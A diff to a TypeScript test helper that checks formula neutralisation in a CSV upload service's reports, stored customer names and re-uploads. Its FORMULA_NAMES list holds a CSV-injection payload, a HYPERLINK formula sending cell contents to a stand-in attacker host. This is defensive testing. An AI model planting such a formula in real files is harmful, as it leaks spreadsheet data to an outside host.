@@ -541,7 +541,7 @@ export async function tenantIsolation(
   };
 }
 
-// --- R6: formula neutralisation in the e-mails ------------------------------------------------------
+// --- R6: names that start like a formula ---------------------------------------------------------
 
 export const FORMULA_NAMES = [
   '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
@@ -555,6 +555,14 @@ export interface NeutralisationResult {
   partnerId: string;
   reportMail: SentEmail | undefined;
   digest: SentEmail | undefined;
+  /** The upload's plan.csv, errors.csv and report.html. */
+  planCsv: string;
+  errorsCsv: string;
+  reportHtml: string;
+  /** Customer names stored (DynamoDB) after the upload, sorted. */
+  storedNames: string[];
+  /** The same, after the upload's own plan.csv was uploaded again unedited. */
+  storedNamesAfterReupload: string[];
 }
 
 /** Customers named like formulas, due for every kind of reminder on the upload day. */
@@ -572,7 +580,26 @@ export async function formulaNames(w: World, o: { partnerId: string; when: Date 
   await w.fanOut.handler({ time: at(today, 7).toISOString(), job: 'daily-digest' });
   await w.stack.drainWork();
   const mails = (await mailbox(w)).get(emailOf(o.partnerId)) ?? [];
-  return { partnerId: o.partnerId, reportMail: mails.find(isReportMail), digest: mails.find((m) => m.subject.startsWith('CSP moves for')) };
+  const reports = (await listKeys(w, `reports/${o.partnerId}/`)).map((k) => k.key);
+  const report = async (name: string) => objectText(w, reports.find((k) => k.endsWith(`/${name}`))!);
+  const planCsv = await report('plan.csv');
+  const storedNames = await customerNames(w, o.partnerId);
+  await lambda(w, await putObject(w, uploadKey(o.partnerId, 'plan.csv'), planCsv, plusMinutes(o.when, 60)), plusMinutes(o.when, 60));
+  return {
+    partnerId: o.partnerId,
+    reportMail: mails.find(isReportMail),
+    digest: mails.find((m) => m.subject.startsWith('CSP moves for')),
+    planCsv,
+    errorsCsv: await report('errors.csv'),
+    reportHtml: await report('report.html'),
+    storedNames,
+    storedNamesAfterReupload: await customerNames(w, o.partnerId),
+  };
+}
+
+async function customerNames(w: World, partnerId: string): Promise<string[]> {
+  const { readCustomer } = await import('../../shared/storage/dynamodb/item-codec.js');
+  return (await items(w, partnerId, 'CUST#')).map((item) => readCustomer(item as Parameters<typeof readCustomer>[0]).customerName).sort();
 }
 
 // --- R7: no e-mail address in the logs -------------------------------------------------------------
